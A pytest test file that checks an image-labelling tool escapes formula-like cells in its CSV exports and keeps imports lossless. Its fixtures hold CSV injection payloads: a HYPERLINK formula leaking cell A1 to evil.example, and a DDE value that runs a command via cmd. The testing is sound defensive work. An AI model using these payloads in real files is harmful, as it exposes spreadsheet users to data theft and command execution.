"""No CSV written for people starts a cell with a spreadsheet formula (issue 10, item 10): votes
export, issues, consensus and the export's manifest.csv, and the votes round trip stays lossless."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import re
import sys
from pathlib import Path

import pytest

from helpers import make_tree, run_cli

EVIL_CLASS = '=HYPERLINK("evil")'
EVIL_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            if cell and cell[0] in "=+-@\t\r":
                assert NUMBER.fullmatch(cell), f"a formula-like cell {cell!r} in {row}"


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("inject")
    root = make_tree(base / "images", {EVIL_CLASS: 3, "-cat": 3, "dog": 3})
    proj = base / "proj"
    run_cli("init", proj, "--images", root, check=True)
    run_cli("annotators", "add", proj, "@ann", check=True)
    for path, label, note in (
        ("-cat/0000.png", EVIL_CLASS, EVIL_NOTE),
        ("dog/0000.png", "-cat", "+1+cmd|' /C calc'!A0"),
        ("dog/0001.png", "dog", "'=already quoted"),
    ):
        run_cli("vote", proj, "--annotator", "@ann", "--note", note, "--", path, label, check=True)
    return proj


def test_votes_export_is_escaped_and_round_trips(project: Path, tmp_path: Path) -> None:
    text = run_cli("votes", "export", project, check=True).stdout
    _assert_no_formula(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["note"] == "'" + EVIL_NOTE and rows[0]["label"] == "'" + EVIL_CLASS
    assert rows[0]["annotator"] == "'@ann" and rows[0]["path"] == "'-cat/0000.png"
    assert rows[2]["note"] == "''=already quoted"
    exported = tmp_path / "votes.csv"
    exported.write_text(text, encoding="utf-8")
    other = tmp_path / "other"
    run_cli("init", other, "--images", project.parent / "images", check=True)
    assert "3 votes added" in run_cli("votes", "import", other, exported, check=True).stdout
    assert run_cli("votes", "export", other, check=True).stdout == text
    listed = json.loads(run_cli("annotators", "list", other, "--json", check=True).stdout)
    assert [a["name"] for a in listed] == ["@ann"]


def test_issues_csv_is_escaped(project: Path) -> None:
    text = run_cli("issues", project, "--all", "--order", "path", check=True).stdout
    _assert_no_formula(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["given_label"] for r in rows} == {"'-cat", "'" + EVIL_CLASS, "dog"}
    as_json = json.loads(
        run_cli("issues", project, "--all", "--order", "path", "--format", "json").stdout
    )
    assert {r["given_label"] for r in as_json["rows"]} == {"-cat", EVIL_CLASS, "dog"}


def test_consensus_csv_is_escaped(project: Path) -> None:
    text = run_cli("consensus", project, check=True).stdout
    _assert_no_formula(text)
    rows = {r["path"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["'-cat/0000.png"]["consensus_label"] == "'" + EVIL_CLASS
    assert rows["dog/0000.png"]["consensus_label"] == "'-cat"


def test_manifest_csv_is_escaped_and_retrain_reads_it(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    run_cli("export", project, "--out", out, "--format", "csv", check=True)
    text = (out / "manifest.csv").read_text(encoding="utf-8")
    _assert_no_formula(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert "'-cat/0001.png" in {r["source_path"] for r in rows}
    assert "'-cat" in {r["label"] for r in rows}
    spec = importlib.util.spec_from_file_location("export_retrain", out / "retrain.py")
    assert spec is not None and spec.loader is not None
    retrain = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = retrain  # the import recipe: dataclasses look their module up there
    try:
        spec.loader.exec_module(retrain)
    finally:
        del sys.modules[spec.name]
    classes = retrain.read_classes(out)
    samples = retrain.manifest_samples(out / "manifest.csv", classes, split=None, aliases={})
    by_path = {
        Path(p).relative_to(project.parent / "images").as_posix(): classes[k] for p, k in samples
    }
    assert by_path["-cat/0001.png"] == "-cat"
    assert by_path[f"{EVIL_CLASS}/0000.png"].startswith("=HYPERLINK(")


def test_manifest_import_reads_escaped_cells(tmp_path: Path) -> None:
    """A manifest saved from a spreadsheet or an export keeps the ``'`` in front of formula-like
    cells; the import reads them as the names they stand for."""
    root = make_tree(tmp_path / "images", {"-cat": 2, "dog": 2})
    manifest = tmp_path / "manifest.csv"
    manifest.write_text(
        "path,label\n'-cat/0000.png,'-cat\n'-cat/0001.png,dog\ndog/0000.png,'-cat\n",
        encoding="utf-8",
    )
    proj = tmp_path / "proj"
    run_cli("init", proj, "--images", root, "--manifest", manifest, check=True)
    info = json.loads(run_cli("info", proj, "--json", check=True).stdout)
    assert set(info["classes"]) == {"-cat", "dog"}
    assert info["classes"]["-cat"]["ok"] == 2
    assert not info["problems"]
